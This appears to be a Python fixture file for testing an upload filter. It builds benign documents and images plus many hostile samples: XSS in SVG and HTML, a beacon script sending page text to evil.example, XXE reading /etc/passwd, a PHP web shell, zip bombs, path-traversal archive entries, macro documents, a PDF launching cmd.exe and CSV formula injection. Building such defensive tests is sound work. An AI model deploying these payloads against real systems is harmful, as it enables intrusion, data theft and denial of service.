"""Files as people send them, and as attackers do; made here, so that nothing hostile lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
MACRO_TYPES = TYPES.replace(
    b"openxmlformats-officedocument.wordprocessingml.document", b"ms-word.document.macroEnabled"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
SCRIPT = b"fetch('/ours/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FONT = b"/Resources << /Font << /F1 5 0 R >> >> >>"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


# What people send -----------------------------------------------------------------------------------------------------


def photo(width: int = 320, height: int = 200) -> bytes:
    """A JPEG that lies on its side and says where it was taken."""
    picture = Image.new("RGB", (width, height), "white")
    picture.paste("red", (0, 0, width // 2, height // 2))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "CANARY-CAMERA"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (59.0, 40.0, 12.0)
    found = io.BytesIO()
    picture.save(found, "JPEG", exif=exif, comment=b"CANARY-COMMENT")
    return found.getvalue()


def picture(form: str, size: tuple[int, int] = (64, 48)) -> bytes:
    found = io.BytesIO()
    Image.new("RGB", size, "teal").save(found, form)
    return found.getvalue()


def pdf(words: str = "Hydro test passed", extra: bytes = b"") -> bytes:
    """A PDF of one page with a line of words; `extra` stands in its catalogue."""
    line = f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + FONT,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(line), line),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def archive(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", method) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return found.getvalue()


def document(words: str, prolog: bytes = b'<?xml version="1.0"?>') -> bytes:
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body></w:document>'
    return prolog + body.encode()


def docx(words: str = "Torque as agreed", **more: bytes) -> bytes:
    """A Word document; further parts by name, with `__` for a slash and `_dot_` for a dot."""
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": document(words)}
    for name, content in more.items():
        parts[name.replace("__", "/").replace("_dot_", ".")] = content
    return archive(parts)


def office(main: str, content: bytes = b"<x/>", **more: bytes) -> bytes:
    return archive({"[Content_Types].xml": TYPES, main: content, **more})


def opendocument(kind: str, words: str = "Open words") -> bytes:
    content = f"<office:d xmlns:office='o' xmlns:text='t'><text:p>{words}</text:p></office:d>".encode()
    return archive(
        {"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(), "content.xml": content},
        zipfile.ZIP_STORED,
    )


VIDEO = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00isommp42" + b"\x00" * 64
QUICKTIME = struct.pack(">I", 20) + b"ftypqt  " + b"\x00" * 64
HEIC = struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + b"\x00" * 64
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm\x42\x87\x81\x04" + b"\x00" * 64

HONEST: dict[str, tuple[str, bytes]] = {
    "photo": ("IMG_0001.JPG", photo()),
    "png": ("drawing.png", picture("PNG")),
    "webp": ("web.webp", picture("WEBP")),
    "gif": ("old.gif", picture("GIF")),
    "heic": ("IMG_2.HEIC", HEIC),
    "pdf": ("report.pdf", pdf()),
    "text": ("note.txt", "Prüfstand 3 läuft".encode()),
    "text in windows": ("note.txt", "Prüfstand".encode("cp1252")),
    "text in utf-16": ("note.txt", "Prüfstand".encode("utf-16")),
    "text with mark": ("note.md", b"\xef\xbb\xbf# Title"),
    "csv": ("values.csv", b"part;value\r\n1;2,5\r\n"),
    "docx": ("procedure.docx", docx()),
    "xlsx": ("list.xlsx", office("xl/workbook.xml")),
    "pptx": ("talk.pptx", office("ppt/presentation.xml")),
    "odt": ("letter.odt", opendocument("text")),
    "ods": ("table.ods", opendocument("spreadsheet")),
    "mp4": ("noise.mp4", VIDEO),
    "mov": ("IMG_3.MOV", QUICKTIME),
    "webm": ("clip.webm", WEBM),
    "dwg": ("ring.dwg", b"AC1032" + b"\x00" * 100),
    "step": ("ring.stp", b"ISO-10303-21;\nHEADER;\nENDSEC;\n"),
    "a name of one letter": ("a.txt", b"x"),
}


# What attackers send --------------------------------------------------------------------------------------------------


def png_of(width: int, height: int) -> bytes:
    """A PNG whose header claims a size that its few bytes do not hold."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def jpeg_of(width: int, height: int) -> bytes:
    return (
        b"\xff\xd8\xff\xc0\x00\x11\x08"
        + struct.pack(">HH", height, width)
        + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    )


def _with_entry(name: str, content: bytes = b"x", attributes: int = 0) -> bytes:
    """A Word document with one more entry under a name that no program would write."""
    found = io.BytesIO(docx())
    with zipfile.ZipFile(found, "a") as made:
        entry = zipfile.ZipInfo(name)
        entry.filename = name  # not cleaned, as an attacker would
        entry.external_attr = attributes
        made.writestr(entry, content)
    return found.getvalue()


def _encrypted() -> bytes:
    """A Word document whose entries claim to be encrypted."""
    raw = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = raw.find(mark)
        while place >= 0:
            raw[place + offset] |= 1
            place = raw.find(mark, place + 4)
    return bytes(raw)


def _overlapping() -> bytes:
    """Many directory entries that share one packed entry, each under a name of its own (as in a quoted bomb)."""
    raw = docx()
    start, end = raw.find(b"PK\x01\x02"), raw.find(b"PK\x05\x06")
    entry = raw[start : start + 46 + len("[Content_Types].xml")]
    copies = b"".join(entry[:46] + b"%019d" % number for number in range(50))
    central = raw[start:end] + copies
    count = struct.pack("<HH", 52, 52)
    tail = raw[end : end + 8] + count + struct.pack("<II", len(central), start) + b"\x00\x00"
    return raw[:start] + central + tail


def _twice() -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w") as made:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for content in (TYPES, MACRO_TYPES):
                made.writestr("[Content_Types].xml", content)
            made.writestr("word/document.xml", document("x"))
    return found.getvalue()


def _links() -> bytes:
    return _with_entry("word/media/image1.png", b"/etc/passwd", (0o120777) << 16)


BOMB = archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<x>" + b" " * 40_000_000})
MANY = archive({"[Content_Types].xml": TYPES} | {f"word/part{number}.xml": b"" for number in range(10_050)})
SHELL = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512

REFUSED: dict[str, tuple[str, bytes]] = {
    # What a browser could run
    "svg": ("drawing.svg", SVG),
    "svg as a picture": ("drawing.png", SVG),
    "svg as a text": ("drawing.txt", SVG),
    "svg as a text after spaces": ("drawing.txt", b" \n\t" + SVG),
    "svg as a text in utf-16": ("drawing.txt", SVG.decode().encode("utf-16")),
    "html": ("page.html", HTML),
    "html as a text": ("page.txt", HTML),
    "html as markdown": ("page.md", b"\xef\xbb\xbf" + HTML),
    "html as a table": ("page.csv", b"<script>alert(1)</script>"),
    "html after a comment": ("page.txt", b"<!-- harmless -->" + HTML),
    "html as a pdf": ("page.pdf", HTML),
    "html as a jpeg": ("page.jpg", HTML),
    "xhtml": ("page.xhtml", HTML),
    "saved page": ("page.mhtml", b"MIME-Version: 1.0\r\n"),
    "xml": ("data.xml", ENTITIES + b"<d>&x;</d>"),
    "xml as a text": ("data.txt", ENTITIES + b"<d>&x;</d>"),
    "style sheet": ("x.xsl", b"<xsl:stylesheet/>"),
    "script": ("x.js", SCRIPT),
    "module": ("x.mjs", SCRIPT),
    "script under two endings": ("x.png.js", SCRIPT),
    "script as a picture": ("x.png", SCRIPT),
    "script hidden by a nul": ("x.js\x00.png", SCRIPT),
    "script behind a nul": ("x.png\x00.js", SCRIPT),
    "script under capitals": ("x.JS", SCRIPT),
    "script with a dot behind": ("x.js.", SCRIPT),
    "script with spaces behind": ("x.js   ", SCRIPT),
    "web assembly": ("x.wasm", b"\x00asm\x01\x00\x00\x00"),
    "server page": ("x.php", b"<?php system($_GET['c']); ?>"),
    "server page as a text": ("x.txt", b"<?php system($_GET['c']); ?>"),
    "server page as a gif": ("x.php.gif", b"GIF89a<?php system('id'); ?>"),
    # Programs
    "program": ("setup.exe", SHELL),
    "program as a text": ("setup.txt", SHELL),
    "program as a picture": ("setup.jpg", SHELL),
    "program reversed by a mark": ("photo\u202egpj.exe", SHELL),
    "program behind a mark": ("exe.\u202ejpg", SHELL),
    "shell script": ("x.sh", b"#!/bin/sh\nid\n"),
    "shortcut": ("x.lnk", b"L\x00\x00\x00"),
    "archive of java": ("x.jar", archive({"A.class": b"\xca\xfe\xba\xbe"})),
    "plain archive": ("x.zip", archive({"a.txt": b"x"})),
    "archive as a document": ("x.docx", archive({"a.txt": b"x"})),
    "postscript as a text": ("x.txt", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
    "device": ("CON", b"x"),
    "hidden file": (".htaccess", b"AddType application/x-httpd-php .jpg"),
    "no ending": ("README", b"words"),
    "no name": ("", b"words"),
    "dots": ("../..", b"words"),
    # Office documents
    "macros": ("x.docm", docx(word__vbaProject_dot_bin=b"x")),
    "macros as plain": ("x.docx", docx(word__vbaProject_dot_bin=b"x")),
    "macros in capitals": ("x.docx", docx(word__VBAPROJECT_dot_BIN=b"x")),
    "macros by type": ("x.docx", archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": document("x")})),
    "macro sheet": ("x.xlsx", office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "controls": ("x.docx", docx(word__activeX__activeX1_dot_bin=b"x")),
    "basic": ("x.odt", archive({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/m.xml": b"<x/>"}, 0)),
    "program inside": ("x.docx", docx(word__embeddings__setup_dot_exe=SHELL)),
    "archive inside": ("x.docx", docx(word__embeddings__a_dot_zip=archive({"b": b""}))),
    "binary workbook": ("x.xlsx", office("xl/workbook.bin")),
    "old office": ("x.doc", OLD_OFFICE),
    "old office as new": ("x.docx", OLD_OFFICE),
    "a table as a text": ("x.docx", office("xl/workbook.xml")),
    "two documents in one": ("x.docx", docx(xl__workbook_dot_xml=b"<x/>")),
    "external entity": (
        "x.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": document("&x;", ENTITIES)}),
    ),
    "many laughs": ("x.docx", archive({"[Content_Types].xml": TYPES, "word/document.xml": document("&c;", LAUGHS)})),
    "entity in utf-16": (
        "x.docx",
        docx(
            word__extra_dot_xml=(ENTITIES.decode().replace('1.0"', '1.0" encoding="utf-16"') + "<d/>").encode("utf-16")
        ),
    ),
    "entity in a relationship": ("x.docx", docx(word___rels__document_dot_xml_dot_rels=ENTITIES + b"<d/>")),
    "entity in an open document": (
        "x.odt",
        archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": ENTITIES + b"<d/>"}, 0),
    ),
    "prolog without end": (
        "x.docx",
        docx(word__long_dot_xml=b"<?xml version='1.0'?><!--" + b"x" * 70_000 + b"--><d/>"),
    ),
    "bomb": ("x.docx", BOMB),
    "too many entries": ("x.docx", MANY),
    "entries that overlap": ("x.docx", _overlapping()),
    "entry twice": ("x.docx", _twice()),
    "climbs out": ("x.docx", _with_entry("../../../../etc/cron.d/x")),
    "absolute": ("x.docx", _with_entry("/etc/passwd")),
    "climbs out in windows": ("x.docx", _with_entry("word\\..\\..\\x")),
    "drive": ("x.docx", _with_entry("C:/x")),
    "link": ("x.docx", _links()),
    "locked": ("x.docx", _encrypted()),
    "something before it": ("x.docx", SHELL + docx()),
    "cut off": ("x.docx", docx()[:-40]),
    "only a directory": ("x.docx", b"PK\x05\x06" + b"\x00" * 18),
    "damaged inside": ("x.docx", docx().replace(b"PK\x03\x04", b"PK\x03\x05", 1)),
    # Pictures and others
    "nothing": ("empty.pdf", b""),
    "nothing as a text": ("empty.txt", b""),
    "huge png": ("x.png", png_of(60_000, 60_000)),
    "long png": ("x.png", png_of(4_000_000_000, 1)),
    "huge jpeg": ("x.jpg", jpeg_of(65_000, 65_000)),
    "png of no size": ("x.png", png_of(0, 0)),
    "png cut off in its header": ("x.png", png_of(10, 10)[:18]),
    "jpeg cut off in its header": ("x.jpg", b"\xff\xd8\xff\xe0\x00"),
    "jpeg of empty segments": ("x.jpg", b"\xff\xd8\xff" + b"\xd0\xff" * 3000),
    "png as jpeg": ("x.jpg", picture("PNG")),
    "jpeg as pdf": ("x.pdf", photo()),
    "pdf behind something": ("x.pdf", b"GIF89a" + pdf()),
    "text with control characters": ("x.txt", b"\x1b]0;title\x07\x1b[2J"),
    "text with nuls": ("x.txt", b"a\x00b"),
    "matroska as webm": ("x.webm", WEBM.replace(b"\x84webm", b"\x88matroska")),
    "playlist as video": ("x.mp4", b"#EXTM3U\nfile:///etc/passwd"),
}

# Taken, and harmless: never shown but as a picture that we made, never given back but as a download in a sandbox.
TAKEN: dict[str, tuple[str, bytes]] = {
    "pdf with script": ("x.pdf", pdf(extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf that launches": ("x.pdf", pdf(extra=b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "pdf and html": ("x.pdf", pdf() + HTML),
    "pdf and archive": ("x.pdf", pdf() + archive({"A.class": b"\xca\xfe"})),
    "pdf cut off": ("x.pdf", pdf()[:200]),
    "pdf of nothing": ("x.pdf", b"%PDF-1.7\n"),
    "gif and script": ("x.gif", b"GIF89a/*\x01\x00\x01" + b"\x00" * 20 + b"*/=1;" + SCRIPT),
    "gif and archive": ("x.gif", picture("GIF") + archive({"A.class": b"\xca\xfe"})),
    "jpeg with script in a comment": ("x.jpg", photo().replace(b"CANARY-COMMENT", b"<script>a();//")),
    "jpeg cut off": ("x.jpg", photo()[:400]),
    "png cut off": ("x.png", picture("PNG", (400, 400))[:120]),
    "png with less than it says": ("x.png", png_of(3000, 3000)),
    "webp cut off": ("x.webp", picture("WEBP")[:40]),
    "script as a text": ("x.txt", SCRIPT),
    "formulas": ("x.csv", b'=cmd|"/c calc"!A1,+1,-1,@x'),
    "document that loads a template": (
        "x.docx",
        docx(
            word___rels__settings_dot_xml_dot_rels=b'<Relationships><Relationship Id="r" Target="http://evil.example" '
            b'Type="http://x/attachedTemplate" TargetMode="External"/></Relationships>'
        ),
    ),
    "name with marks": ("\u202egpj.\u200btxt", b"x"),
    "name with markup": ("<img src=x onerror=alert(1)>.txt", b"x"),
    "name with a path": ("../../../etc/passwd.txt", b"x"),
    "name with a windows path": ("C:\\windows\\win.ini.txt", b"x"),
    "name with line breaks": ("a\r\nSet-Cookie: x=1\r\n.txt", b"x"),
    "name without end": ("x" * 5000 + ".txt", b"x"),
    "name of a device": ("con.txt", b"x"),
    "video without pictures": ("x.mp4", VIDEO),
}
